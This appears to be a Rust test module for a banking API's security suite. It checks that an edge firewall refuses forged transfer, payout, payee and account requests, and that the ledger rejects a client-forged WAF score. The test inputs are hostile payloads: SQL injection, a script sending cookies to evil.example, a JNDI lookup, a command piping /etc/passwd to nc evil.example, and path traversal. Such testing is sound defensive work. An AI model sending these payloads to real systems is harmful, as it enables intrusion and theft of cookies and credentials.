//! Attacks at the edge, where the system has one: each is a request in which everything is right but one text. The edge refuses it, and none of the
//! services hears of it; the very same bytes, sent past the edge, are taken by the ledger for the text that they are.

use anyhow::{Context as _, Result, ensure};
use api::problem::code;
use reqwest::{Client, Method};
use serde_json::{Value, json};
use url::Url;

use crate::attacks::Loot;
use crate::hooked::{Forged, Seen};
use crate::narrator::{Attack, Evidence, Narrator};
use crate::operator::Operator;

/// Number in the catalogue, title, where to, what, and what the ledger answers to whom it reaches.
type Attempt = (u32, &'static str, &'static str, Value, &'static str);

/// Runs them all, where the system has an edge.
pub async fn run(narrator: &mut Narrator, loot: &Loot<'_>) -> Result<()> {
    if !loot.stack.edge {
        return Ok(());
    }
    let operator = Operator::new(loot.stack.logs.clone());
    for (at, (number, title, path, body, reached)) in attempts(loot).into_iter().enumerate() {
        let began = crate::instant();
        let key = format!("edge-attack-{at}");
        let forged = loot.alice.forge(Method::POST, path, Some(&body), Some(&key)).await?;
        let seen = forged.send(&loot.http).await?;
        ensure!(seen.status == 403 && seen.code == code::EDGE_REFUSED, "{title} was answered {seen}");
        let rules = operator.edge_rules(&seen.request_id).await?;
        // Nothing in it was used up: no service has seen it.
        let twin = past_the_edge(loot, &forged, &loot.http).await?;
        ensure!(twin.code == reached, "{title}, past the edge, was answered {twin}: {}", twin.body);
        narrator.stopped(Attack {
            number,
            title: title.to_owned(),
            seen: seen.to_string(),
            layer: "edge".to_owned(),
            evidence: Evidence::Log(rules),
            millis: began.elapsed().as_secs_f64() * 1e3,
        });
    }
    score(narrator, loot, &operator).await
}

/// The same text in each field that people write in, and one of another kind in a field that they do not. More money than Alice has: it is the
/// committer that says no to whatever gets there.
fn attempts(loot: &Loot<'_>) -> Vec<Attempt> {
    let much = json!({"amount": "9999999.00", "currency": "EUR"});
    let transfer = |reference: &str| json!({"from_account": loot.alice_account, "to_account": loot.bob_account, "amount": much, "reference": reference});
    let payout = |reference: &str| json!({"from_account": loot.alice_account, "amount": much, "payee_id": loot.bob_account, "reference": reference});
    let payee = |name: &str| json!({"name": name, "iban": "DE89370400440532013000"});
    // What gets past the edge, the ledger takes for a payee whose IBAN is not sealed, or its own layer WAF for what it is.
    let poor = code::INSUFFICIENT_FUNDS;
    let (transfers, accounts) = ("/v1/transfers", "/v1/accounts");
    let (payees, payouts) = ("/v1/payees", "/v1/payouts");
    let script = "<script>fetch('//evil.example/'+document.cookie)</script>";
    vec![
        (1, "SQL in a transfer's reference", transfers, transfer("x' UNION SELECT password FROM people --"), poor),
        (2, "Script in a payout's reference", payouts, payout(script), code::REQUEST_INVALID),
        (3, "A lookup in a payee's name", payees, payee("${jndi:ldap://evil.example/a}"), code::FIELD_SEALED_REQUIRED),
        (3, "A command in a transfer's reference", transfers, transfer("; cat /etc/passwd | nc evil.example 80"), poor),
        (
            4,
            "A way up to a file in an account's name",
            accounts,
            json!({"currency": "EUR", "name": "../../../etc/passwd"}),
            "",
        ),
    ]
}

/// The same bytes for the same host, to the ledger's own listener.
async fn past_the_edge(loot: &Loot<'_>, forged: &Forged, http: &Client) -> Result<Seen> {
    let host = forged.url.authority().to_owned();
    let mut direct = forged.clone().with("host", host);
    let port = Url::parse(&loot.stack.ledger_direct_url)?.port();
    direct.url.set_port(port).ok().context("the ledger's own listener has no port")?;
    direct.send(http).await
}

/// What the edge finds and does not refuse, the services are told; what somebody else says of it, they are not.
async fn score(narrator: &mut Narrator, loot: &Loot<'_>, operator: &Operator) -> Result<()> {
    let began = crate::instant();
    let body = json!({"currency": "EUR", "name": "Salary 01/26 * bonus"});
    let forged = loot.alice.forge(Method::POST, "/v1/accounts", Some(&body), Some("edge-score")).await?;
    let forged = forged.without(api::header::ATTESTATION_TOKEN).with(api::header::WAF_SCORE, "4711".to_owned());
    let mut told = Vec::new();
    for seen in [forged.send(&loot.http).await?, past_the_edge(loot, &forged, &loot.http).await?] {
        ensure!(seen.status == 401, "a request without an attestation token was answered {seen}");
        told.push((operator.refusal("ledger", &seen.request_id).await?, seen));
    }
    let [(through, seen), (past, _)] = told.as_slice() else { anyhow::bail!("two answers were expected") };
    let score = through.waf_score.context("the ledger's log has no score")?;
    ensure!((3..4711).contains(&score), "the ledger was told the score {score}");
    ensure!(past.waf_score.is_none(), "the ledger believed a stranger's score, {past:?}");
    narrator.stopped(Attack {
        number: 68,
        title: "A client that gives itself the edge's score".to_owned(),
        seen: seen.to_string(),
        layer: "edge".to_owned(),
        evidence: Evidence::Seen(format!("the ledger's log has the edge's own score, {score}, and past the edge none")),
        millis: began.elapsed().as_secs_f64() * 1e3,
    });
    Ok(())
}
